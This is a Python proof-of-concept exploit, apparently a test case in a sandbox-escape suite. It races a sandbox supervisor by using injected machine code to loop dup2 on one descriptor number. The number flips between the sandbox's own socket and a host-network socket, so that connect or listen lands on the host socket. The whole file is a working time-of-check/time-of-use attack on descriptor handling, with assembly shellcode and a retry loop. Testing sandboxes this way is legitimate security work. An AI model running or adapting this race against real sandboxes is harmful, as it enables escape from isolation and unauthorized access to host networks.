"""Another thread puts another socket at the number while the supervisor acts.

One of the two sockets is the sandbox's own, with which much is allowed. The other
is a socket of the host's network that the guest was given for a connection.

attacks: the duplicate of the descriptor that the supervisor acts on
effect: the canary accepts a connection, or somebody outside reaches a port of the host
topic: an fd number is a pointer too
"""

import ctypes
import errno
import socket
import threading
import time

from kit import address, call, how, inside, libc, machine_code, ready, say, sockaddr, target

SWAP = (b"\x49\x89\xf8"                  # mov r8, rdi
        b"\x49\x89\xd1"                  # mov r9, rdx
        b"\x49\x89\xca"                  # mov r10, rcx
        b"\x44\x89\xc7"                  # mov edi, r8d
        b"\xb8\x21\x00\x00\x00\x0f\x05"  # dup2(r8, rsi)
        b"\x44\x89\xcf"                  # mov edi, r9d
        b"\xb8\x21\x00\x00\x00\x0f\x05"  # dup2(r9, rsi)
        b"\x41\x83\x3a\x00"              # cmp dword [r10], 0
        b"\x74\xe6"                      # je, back to the first dup2
        b"\xc3")                         # ret

swap = machine_code(SWAP, None, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_void_p)


UNSPEC = bytes(16)
PLACE = sockaddr("0.0.0.0", target.get("listen", 0))
CANARY = sockaddr(*address()) if "host" in target else UNSPEC


def act(number):
    """One try: what would be fatal on the host's socket."""
    if how != "connect":
        libc.connect(number, UNSPEC, len(UNSPEC))
    if how == "listen":
        libc.bind(number, PLACE, len(PLACE))
        return libc.listen(number, 1)
    return libc.connect(number, CANARY, len(CANARY))


own, host = socket.socket(), socket.socket()
own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
host.connect((target["allowed"], 80))
number = call(libc.fcntl, (host if inside else own).fileno(), 1030, 100)  # F_DUPFD_CLOEXEC
stop = ctypes.c_uint32(0)
results = {}
thread = threading.Thread(target=swap, args=(own.fileno(), number, host.fileno(), ctypes.addressof(stop)))
thread.start()
deadline = time.monotonic() + target["seconds"]
tries = 0
while tries < (target["tries"] if inside else 50) and time.monotonic() < deadline:
    tries += 1
    code = 0 if act(number) == 0 else ctypes.get_errno()
    results[code] = results.get(code, 0) + 1
stop.value = 1
thread.join()
say(tries, "tries:", {errno.errorcode.get(code, code): count for code, count in results.items()})
if how == "listen":
    ready()
